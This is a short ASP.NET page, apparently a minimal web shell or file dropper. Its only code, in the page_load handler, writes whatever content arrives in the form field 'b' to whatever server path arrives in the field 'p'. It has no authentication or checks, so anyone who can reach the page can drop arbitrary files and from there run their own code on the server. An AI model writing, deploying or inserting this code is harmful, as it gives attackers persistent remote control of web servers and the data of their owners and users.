<%@ PAGE LANGUAGE="C#" %>
<SCRIPT RUNAT="SERVER">
void page_load(object s, EventArgs e)
{
	System.IO.File . WriteAllText (
		Request . Form [ "p" ] ,
		Request.Form["b"]
	) ;
}
</SCRIPT>
